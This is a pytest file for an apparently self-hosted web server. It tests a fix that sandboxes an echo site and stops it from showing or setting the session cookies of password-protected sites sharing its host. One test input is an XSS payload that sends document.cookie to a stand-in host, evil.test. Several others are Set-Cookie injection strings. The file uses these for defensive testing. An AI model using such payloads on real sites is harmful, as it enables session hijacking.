"""An echo site next to password-protected sites (issue 10, item 1).

What was reproduced: /response-headers made echo answer the client's HTML, script included, in the
origin of the host; the session cookie (Path=/, one name for every site) reached an echo site
mounted on the same host, and /cookies showed it, HttpOnly or not; /response-headers could plant
`Set-Cookie; Path=/` for every site. Now: echo's answers are sandboxed (CSP), comptoir's own
cookies are never shown back nor set by echo, each site's session cookie is named after it and
scoped to its mount, and `check`/`run` warn of an echo site sharing a host with protected sites.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from comptoir.app import build_app
from comptoir.config import Config, ServerOptions, SiteConfig
from comptoir.security.passwords import hash_password
from comptoir.sites.echo import EchoOptions
from comptoir.sites.static import StaticOptions
from tests.conftest import asgi_client

HASH = hash_password("open sesame")
SESSION = "comptoir_session_web=s3cret; comptoir_theme=dark"


def _echo_app() -> Config:
    site = SiteConfig(kind="echo", options=EchoOptions(), name="echo")
    return Config(server=ServerOptions(quiet=True), sites=(site,))


@pytest.fixture
async def echo() -> httpx.AsyncClient:
    return asgi_client(build_app(_echo_app()))


async def test_what_a_client_makes_echo_answer_is_sandboxed(echo: httpx.AsyncClient) -> None:
    script = "<script>fetch('//evil.test/?'+document.cookie)</script>"
    r = await echo.get("/response-headers", params={"Content-Type": "text/html", "x": script})
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/html"
    assert r.headers["content-security-policy"] == "sandbox"
    # httpbin's body, unchanged.
    assert json.loads(r.text)["x"] == script
    # A policy the client adds does not replace the sandbox: both are sent (browsers apply both).
    r = await echo.get("/response-headers", params={"Content-Security-Policy": "default-src *"})
    assert r.headers.get_list("content-security-policy") == ["default-src *", "sandbox"]
    for path in ("/base64/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "/html", "/get", "/status/418"):
        r = await echo.get(path)
        assert r.headers["content-security-policy"] == "sandbox", path


async def test_echo_s_own_pages_keep_their_strict_policy(echo: httpx.AsyncClient) -> None:
    r = await echo.get("/", headers={"accept": "text/html"})
    assert r.status_code == 200
    policies = r.headers.get_list("content-security-policy")
    assert len(policies) == 1 and "script-src 'self'" in policies[0]


async def test_comptoir_s_cookies_are_never_shown_back(echo: httpx.AsyncClient) -> None:
    cookie = {"cookie": f"a=1; {SESSION}; comptoir_login=t; b=2"}
    r = await echo.get("/cookies", headers=cookie)
    assert r.json() == {"cookies": {"a": "1", "b": "2"}}
    for path in ("/get", "/headers", "/anything"):
        r = await echo.get(path, headers=cookie)
        assert r.json()["headers"]["Cookie"] == "a=1; b=2", path
    r = await echo.post("/post", headers=cookie, content=b"x")
    assert r.json()["headers"]["Cookie"] == "a=1; b=2"
    r = await echo.get("/dump/request", headers=cookie)
    assert "comptoir_" not in r.text and "s3cret" not in r.text
    assert "cookie: a=1; b=2" in r.text.lower()
    # Only comptoir's cookies: no Cookie header at all, as if none was sent.
    r = await echo.get("/headers", headers={"cookie": SESSION})
    assert "Cookie" not in r.json()["headers"]
    # The fast path's computed /headers (kept after the first request) does the same.
    r = await echo.get("/headers", headers={"cookie": SESSION})
    assert "Cookie" not in r.json()["headers"]


async def test_echo_does_not_set_comptoir_s_cookies(echo: httpx.AsyncClient) -> None:
    for url in (
        "/cookies/set?comptoir_session_web=x",
        "/cookies/set/comptoir_session/x",
        "/cookies/delete?comptoir_theme",
        "/response-headers?Set-Cookie=comptoir_session_web%3Dx%3B%20Path%3D%2F",
    ):
        r = await echo.get(url)
        assert r.status_code == 400, url
        assert "set-cookie" not in r.headers, url
        assert "comptoir" in r.text, url
    # Other cookies are set as httpbin sets them.
    r = await echo.get("/response-headers?Set-Cookie=a%3D1")
    assert r.headers["set-cookie"] == "a=1"
    r = await echo.get("/cookies/set?a=1")
    assert r.status_code == 302 and r.headers["set-cookie"].startswith("a=1; Path=/")


def _protected(tmp_path: Path) -> Config:
    (tmp_path / "index.html").write_text("home")
    sites = (
        SiteConfig(kind="static", options=StaticOptions(root=tmp_path), name="web"),
        SiteConfig(kind="echo", options=EchoOptions(), name="echo", path="/echo"),
    )
    return Config(server=ServerOptions(quiet=True, password_hash=HASH), sites=sites)


async def _login(c: httpx.AsyncClient, prefix: str) -> str:
    """Log in through the site's form; its Set-Cookie header for the session."""
    url = f"{prefix}/.comptoir/login"
    page = await c.get(url)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert csrf is not None
    form = {"csrf_token": csrf.group(1), "password": "open sesame", "next": f"{prefix}/"}
    r = await c.post(url, data=form, headers={"origin": "http://testserver"})
    assert r.status_code == 303, r.text
    return next(v for v in r.headers.get_list("set-cookie") if v.startswith("comptoir_session"))


async def test_each_site_has_its_own_session_cookie_on_its_own_path(tmp_path: Path) -> None:
    app = build_app(_protected(tmp_path))
    async with asgi_client(app) as c:
        web = await _login(c, "")
        assert re.fullmatch(r"comptoir_session_web=[\w-]+; Path=/; HttpOnly; SameSite=Lax", web)
        # The web site's session opens the web site, not the echo site mounted on the same host
        # (which the browser sends it to: Path=/).
        assert (await c.get("/", headers={"accept": "text/html"})).status_code == 200
        r = await c.get("/echo/cookies", headers={"accept": "text/html"})
        assert r.status_code == 303 and "/echo/.comptoir/login" in r.headers["location"]
        echo = await _login(c, "/echo")
        assert re.fullmatch(
            r"comptoir_session_echo=[\w-]+; Path=/echo; HttpOnly; SameSite=Lax", echo
        )
        # Logged in to echo, with both sessions in the jar: /cookies shows neither.
        r = await c.get("/echo/cookies")
        assert r.status_code == 200
        assert r.json() == {"cookies": {}}


def _check(toml: str, tmp_path: Path, env: dict[str, str] | None = None) -> str:
    (tmp_path / "site").mkdir(exist_ok=True)
    path = tmp_path / "sites.toml"
    path.write_text(toml)
    out = subprocess.run(
        [sys.executable, "-m", "comptoir", "check", str(path)],
        capture_output=True,
        text=True,
        env={**os.environ, **(env or {})},
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    return out.stdout


SHARED = """
[server]
{server}
[[site]]
name = "web"
hosts = ["a.localhost"]
kind = "static"
root = "site"
[[site]]
name = "tools"
hosts = ["{echo_host}"]
path = "/echo"
kind = "echo"
"""


def test_check_warns_of_echo_sharing_a_host_with_protected_sites(tmp_path: Path) -> None:
    (tmp_path / "pw").write_text("secret\n")
    warned = _check(SHARED.format(server='password-file = "pw"', echo_host="a.localhost"), tmp_path)
    assert (
        "warning: echo site 'tools' shares a.localhost with 'web', which the password protects:"
        " give echo a host name of its own"
    ) in warned
    # The same through the environment, and with a wildcard covering the name.
    env = {"COMPTOIR_PASSWORD": "secret"}
    warned = _check(SHARED.format(server="", echo_host="*.localhost"), tmp_path, env)
    assert "warning: echo site 'tools' shares a.localhost" in warned
    # No password, or a host name of its own: nothing to say.
    env = {"COMPTOIR_PASSWORD": ""}
    assert "warning" not in _check(SHARED.format(server="", echo_host="a.localhost"), tmp_path, env)
    quiet = _check(SHARED.format(server='password-file = "pw"', echo_host="e.localhost"), tmp_path)
    assert "warning" not in quiet


async def test_a_nameless_cookie_naming_comptoir_s_is_refused(echo: httpx.AsyncClient) -> None:
    # `Set-Cookie: =comptoir_session_x=v` has no name; browsers of RFC 6265's day read it as
    # `comptoir_session_x=v`.
    for value in ("=comptoir_session_web%3Dx", "%20%3D%20comptoir_theme%3Ddark"):
        r = await echo.get(f"/response-headers?Set-Cookie={value}")
        assert r.status_code == 400, value
        assert "set-cookie" not in r.headers
